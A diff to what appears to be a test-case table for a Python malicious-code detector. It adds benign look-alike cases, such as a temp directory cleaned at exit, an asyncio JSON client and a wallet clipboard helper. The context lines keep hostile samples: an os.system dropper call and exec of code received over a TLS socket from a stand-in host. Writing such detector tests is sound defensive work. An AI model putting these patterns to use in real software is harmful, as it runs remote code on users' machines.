@@ -602,6 +602,31 @@ _each("functools-partial", R, "os.system wrapped in functools.partial, called la
     refresh = functools.partial(os.system, {DROPPER!r})
     refresh()
     """, (S,))
+_twin("atexit-temp-dir-and-worker-thread", R, "a temporary directory removed at exit, a worker thread started on import", I, """
+    import atexit
+    import shutil
+    import tempfile
+    import threading
+    _TMP = tempfile.mkdtemp(prefix='demo-')
+    atexit.register(shutil.rmtree, _TMP, ignore_errors=True)
+
+
+    def _poll():
+        return len(threading.enumerate())
+
+
+    threading.Thread(target=_poll, daemon=True).start()
+    """)
+_twin("yaml-config-and-timeit", R, "settings read with yaml.safe_load on import; a benchmark helper uses timeit", I, """
+    import os
+    import timeit
+    import yaml
+    SETTINGS = yaml.safe_load(open(os.path.join(os.path.dirname(__file__), 'settings.yaml')))
+
+
+    def bench():
+        return timeit.timeit('sum(range(100))', number=100)
+    """)
 _twin("cli-runs-a-program", R, "a CLI runs git in a library function", L, """
     import subprocess
 
@@ -754,6 +779,18 @@ _each("tls-socket-exec", N, "a TLS-wrapped socket receives code that exec runs",
     tls = ssl.create_default_context().wrap_socket(raw, server_hostname='example.invalid')
     exec(tls.recv(65536))
     """, (L,))
+_twin("asyncio-client", N, "an asyncio client reads a JSON reply from a socket", L, """
+    import asyncio
+    import json
+
+
+    async def status(host, port):
+        reader, writer = await asyncio.open_connection(host, port)
+        writer.write(b'STATUS\\n')
+        reply = json.loads(await reader.readline())
+        writer.close()
+        return reply
+    """)
 _twin("weights-downloader", N, "a library downloads model weights to a path it is given", L, """
     import urllib.request
 
@@ -1020,6 +1057,16 @@ _twin("screenshot-for-docs", T, "a helper saves a screenshot where the user asks
     def snapshot(path):
         ImageGrab.grab().save(path)
         return path
+    """)
+_twin("wallet-copies-own-address", T, "a wallet helper copies the address it derived to the clipboard", L, """
+    import hashlib
+    import pyperclip
+
+
+    def copy_address(public_key):
+        address = '0x' + hashlib.sha3_256(public_key).hexdigest()[-40:]
+        pyperclip.copy(address)
+        return address
     """)
 _twin("clipboard-copy", T, "a to_clipboard helper copies a table as text", L, """
     import pyperclip
